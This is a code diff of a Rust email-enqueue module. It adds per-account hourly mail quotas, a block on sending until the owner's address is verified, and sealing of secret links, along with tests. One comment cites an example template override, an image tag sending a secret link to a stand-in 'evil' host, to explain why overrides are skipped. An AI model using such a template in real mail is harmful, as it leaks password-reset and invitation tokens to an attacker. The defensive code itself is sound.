@@ -5,8 +5,9 @@
 //! the email exists exactly when the change does; after commit it calls
 //! [`Service::mail_enqueued`] to wake the delivery worker ([`crate::delivery`]).
 use std::sync::Arc;
+use std::time::Duration;
 
-use roster_mail::{SmtpTarget, TemplateName, TemplateSource};
+use roster_mail::{HiddenSecret, Route, SmtpTarget, TemplateName, TemplateSource};
 use roster_store::{AccountRow, EmailRow, Tx};
 use serde_json::Value;
 use tokio::sync::Notify;
@@ -32,8 +33,38 @@ pub struct MailConfig {
     pub from: String,
     /// The installation's server; `None` keeps mail queued except for accounts with their own.
     pub smtp: Option<SmtpTarget>,
-    /// Seals account SMTP passwords.
+    /// Seals account SMTP passwords and the secrets of queued emails.
     pub key: SecretKey,
+    /// Egress and quotas (R-MAIL-7).
+    pub policy: MailPolicy,
+}
+
+/// What accounts may do with mail (R-MAIL-7).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct MailPolicy {
+    /// `ROSTER_SMTP_ALLOW_PRIVATE`: an account's own server may be a private address on any
+    /// port (off: public addresses on 25, 465, 587 or 2525 only).
+    pub allow_private_smtp: bool,
+    /// `ROSTER_ACCOUNT_MAIL_PER_HOUR`: emails an account may enqueue per clock hour; an account
+    /// less than a day old gets a twenty-fifth of it (at least 1).
+    pub account_mail_per_hour: u32,
+    /// How long "send test email" may take as a whole, and the connect timeout of account
+    /// servers.
+    pub smtp_timeout: Duration,
+}
+
+impl Default for MailPolicy {
+    fn default() -> Self {
+        Self { allow_private_smtp: false, account_mail_per_hour: 500, smtp_timeout: Duration::from_secs(10) }
+    }
+}
+
+impl MailPolicy {
+    /// The hourly limit of an account created at `created_at`, at `at`.
+    pub fn hourly_limit(&self, created_at: time::OffsetDateTime, at: time::OffsetDateTime) -> u32 {
+        let per_hour = self.account_mail_per_hour.max(1);
+        if at - created_at < time::Duration::days(1) { (per_hour / 25).max(1) } else { per_hour }
+    }
 }
 
 impl MailConfig {
@@ -44,6 +75,7 @@ impl MailConfig {
             from: "Roster <roster@localhost>".to_owned(),
             smtp: None,
             key: SecretKey::generate().map_err(ServiceError::Internal)?,
+            policy: MailPolicy::default(),
         })
     }
 
@@ -106,33 +138,74 @@ impl Service {
 
     /// [`Service::enqueue_email`] with a subject that replaces the rendered one (already
     /// checked by the caller: one line, at most 200 characters).
+    ///
+    /// Account mail (`account` set) is refused when the account's owner has not proved their
+    /// address (409 `owner_unverified`, R-AUTH-8) or when the account used up its hourly quota
+    /// (429 `mail_quota`, R-MAIL-7). A template that carries a secret (R-MAIL-6) is stored with
+    /// `[link hidden]` where the link goes and the link sealed beside it; when its recipient is
+    /// not a proved login that belongs to this account alone (and is no operator), it is rendered
+    /// from the built-in template and delivered only through the installation's server. Such a
+    /// mail never carries a Bcc: the copy is an email of its own, with the link hidden.
     pub async fn enqueue_email_with_subject(
         &self,
         tx: &mut dyn Tx,
         mail: Mail<'_>,
         subject: Option<&str>,
     ) -> Result<EmailRow> {
+        self.enqueue(tx, mail, subject, false).await
+    }
+
+    /// [`Service::enqueue_email`] of a template filled with sample data ("send me a test"): the
+    /// sample link is no secret, so it is neither hidden nor sealed, and the account's override
+    /// is always the one shown.
+    pub(crate) async fn enqueue_sample_email(&self, tx: &mut dyn Tx, mail: Mail<'_>) -> Result<EmailRow> {
+        self.enqueue(tx, mail, None, true).await
+    }
+
+    async fn enqueue(&self, tx: &mut dyn Tx, mail: Mail<'_>, subject: Option<&str>, sample: bool) -> Result<EmailRow> {
         let account_id = mail.account.map(|a| a.id);
+        if let Some(account) = mail.account {
+            self.count_account_mail(tx, account).await?;
+        }
+        let mut context = mail.context;
+        let secrets = if sample { Vec::new() } else { roster_mail::hide_secrets(mail.template, &mut context) };
+        let foreign = match mail.account {
+            Some(a) if mail.template.carries_secret() && !sample => !answers_alone_for(tx, a.id, mail.to).await?,
+            _ => false,
+        };
+        let installation_only = foreign || mail.template.route() == Route::InstallationOnly;
         let source = match account_id {
-            Some(a) => tx
+            // An override could carry the link elsewhere (`<img src="https://evil/?{{ link }}">`):
+            // mail with a secret for someone the account does not alone answer for uses the
+            // built-in template (decision 0011).
+            Some(a) if !foreign => tx
                 .template_override(a, mail.template.as_str())
                 .await?
                 .map(|t| TemplateSource::new(t.subject, t.text_body, t.html_body)),
-            None => None,
+            _ => None,
         };
-        let rendered = match source.map(|s| roster_mail::render(&s, &mail.context)) {
-            Some(Ok(r)) => r,
+        let rendered = match source.map(|s| roster_mail::render(&s, &context)) {
+            Some(Ok(r)) if roster_mail::placeholders_present(&r.text, &r.html, &secrets) => r,
             other => {
-                if let Some(Err(e)) = other {
-                    tracing::warn!(template = %mail.template, error = %e, "account template failed; built-in used");
+                match other {
+                    Some(Err(e)) => {
+                        tracing::warn!(template = %mail.template, error = %e, "account template failed; built-in used");
+                    }
+                    Some(Ok(_)) => {
+                        tracing::warn!(template = %mail.template, "account template lost its link; built-in used");
+                    }
+                    None => {}
                 }
-                roster_mail::render(&mail.template.builtin(), &mail.context)
+                roster_mail::render(&mail.template.builtin(), &context)
                     .map_err(|e| ServiceError::Internal(format!("built-in template {}: {e}", mail.template)))?
             }
         };
         let (from, reply_to) = self.sender_of(tx, mail.account, mail.sender).await?;
         let id = Uuid::now_v7();
         let t = now();
+        let secret_sealed = if secrets.is_empty() { None } else { Some(self.seal_secrets(id, &secrets)?) };
+        // R-MAIL-6: a Bcc would copy the link; the copy goes as an email of its own instead.
+        let (bcc, copy_to) = if secrets.is_empty() { (mail.bcc, None) } else { (None, mail.bcc) };
         let row = EmailRow {
             id,
             account_id,
@@ -140,7 +213,7 @@ impl Service {
             to_addr: mail.to.to_owned(),
             from_addr: from,
             reply_to,
-            bcc: mail.bcc.map(str::to_owned),
+            bcc: bcc.map(str::to_owned),
             subject: subject.map_or(rendered.subject, str::to_owned),
             text_body: rendered.text,
             html_body: rendered.html,
@@ -152,9 +225,70 @@ impl Service {
             last_error: None,
             created_at: t,
             sent_at: None,
+            installation_only,
+            secret_sealed,
         };
         tx.enqueue_email(&row).await?;
+        if let Some(copy_to) = copy_to {
+            if let Some(account) = mail.account {
+                self.count_account_mail(tx, account).await?;
+            }
+            let copy_id = Uuid::now_v7();
+            let copy = EmailRow {
+                id: copy_id,
+                to_addr: copy_to.to_owned(),
+                bcc: None,
+                message_id: format!("<{}@{}>", copy_id.simple(), self.mail.config.message_id_host()),
+                installation_only: mail.template.route() == Route::InstallationOnly,
+                secret_sealed: None,
+                ..row.clone()
+            };
+            tx.enqueue_email(&copy).await?;
+        }
         Ok(row)
+    }
+
+    /// Counts one email of `account` against its hourly quota, after checking that its owner
+    /// proved their address (R-AUTH-8, R-MAIL-7).
+    pub(crate) async fn count_account_mail(&self, tx: &mut dyn Tx, account: &AccountRow) -> Result<()> {
+        let owner = tx.user_by_id(account.owner_id).await?;
+        if owner.is_none_or(|o| o.email_verified_at.is_none()) {
+            return Err(ServiceError::Rule {
+                rule: "R-AUTH-8",
+                code: "owner_unverified",
+                message: "This account sends no email until its owner confirms their email address with the link \
+                          sent to it."
+                    .to_owned(),
+            });
+        }
+        let t = now();
+        let limit = self.mail.config.policy.hourly_limit(account.created_at, t);
+        let hour = t.unix_timestamp().div_euclid(3600);
+        if tx.count_account_email(account.id, hour, i64::from(limit)).await? {
+            return Ok(());
+        }
+        let retry_after = u64::try_from((hour + 1) * 3600 - t.unix_timestamp()).unwrap_or(3600).max(1);
+        Err(ServiceError::Limited {
+            code: "mail_quota",
+            rule: Some("R-MAIL-7"),
+            message: format!(
+                "This account has sent its {limit} emails for this hour; nothing was sent. Try again in {} minutes.",
+                retry_after.div_ceil(60)
+            ),
+            retry_after: Some(Duration::from_secs(retry_after)),
+        })
+    }
+
+    /// The secrets of email `id`, sealed with the installation's key and bound to the email.
+    fn seal_secrets(&self, id: Uuid, secrets: &[HiddenSecret]) -> Result<Vec<u8>> {
+        let plain = serde_json::to_vec(secrets).map_err(|e| ServiceError::Internal(e.to_string()))?;
+        self.mail.config.key.seal(id.as_bytes(), &plain).map_err(ServiceError::Internal)
+    }
+
+    /// What [`Service::seal_secrets`] sealed for email `id`.
+    pub(crate) fn open_secrets(&self, id: Uuid, sealed: &[u8]) -> std::result::Result<Vec<HiddenSecret>, String> {
+        let plain = self.mail.config.key.open(id.as_bytes(), sealed).map_err(|e| e.to_string())?;
+        serde_json::from_slice(&plain).map_err(|_| "the sealed secrets of this email do not read back".to_owned())
     }
 
     /// Wakes the delivery worker after a commit that enqueued mail.
@@ -193,9 +327,58 @@ impl Service {
     }
 }
 
+/// A bulk invitation longer than [`crate::BULK_MAX_ROWS`] rows (R-MAIL-7): 429 `bulk_limit`.
+pub(crate) fn too_many_rows() -> ServiceError {
+    ServiceError::Limited {
+        code: "bulk_limit",
+        rule: Some("R-MAIL-7"),
+        message: format!(
+            "Send at most {} invitations in one request; split the list and send the rest after.",
+            crate::BULK_MAX_ROWS
+        ),
+        retry_after: None,
+    }
+}
+
+/// Whether the account answers alone for the login at `to`: it exists, proved its address,
+/// is no operator and belongs to `account_id` and no other account. Only then may a secret for
+/// it go through the account's own server and templates (R-MAIL-6): for anyone else, the
+/// account's admins must not be able to read the link.
+async fn answers_alone_for(tx: &mut dyn Tx, account_id: Uuid, to: &str) -> Result<bool> {
+    let Some(user) = tx.user_by_email(&to.trim().to_lowercase()).await? else { return Ok(false) };
+    if user.is_operator || user.email_verified_at.is_none() {
+        return Ok(false);
+    }
+    let memberships = tx.memberships_of_user(user.id).await?;
+    Ok(!memberships.is_empty() && memberships.iter().all(|(a, _)| a.id == account_id))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn r_mail_7_a_new_account_gets_a_twenty_fifth_of_the_hourly_quota() {
+        let policy = MailPolicy::default();
+        let t = now();
+        assert_eq!(policy.hourly_limit(t - time::Duration::hours(23), t), 20);
+        assert_eq!(policy.hourly_limit(t - time::Duration::days(2), t), 500);
+        let small = MailPolicy { account_mail_per_hour: 10, ..policy };
+        assert_eq!(small.hourly_limit(t, t), 1, "never zero");
+    }
+
+    #[test]
+    fn r_mail_6_views_hide_the_tokens_of_older_emails() {
+        assert_eq!(
+            hide_tokens("Open https://r.test/password-reset?token=reset_Ab-9_x now"),
+            "Open https://r.test/password-reset?token=[link hidden] now"
+        );
+        assert_eq!(
+            hide_tokens("<a href=\"https://r.test/invitations/accept?token=invite_q&amp;x=1\">"),
+            "<a href=\"https://r.test/invitations/accept?token=[link hidden]&amp;x=1\">"
+        );
+        assert_eq!(hide_tokens("no token= here [link hidden]"), "no token= here [link hidden]");
+    }
 
     #[test]
     fn installation_sender_splits_into_name_and_address() {
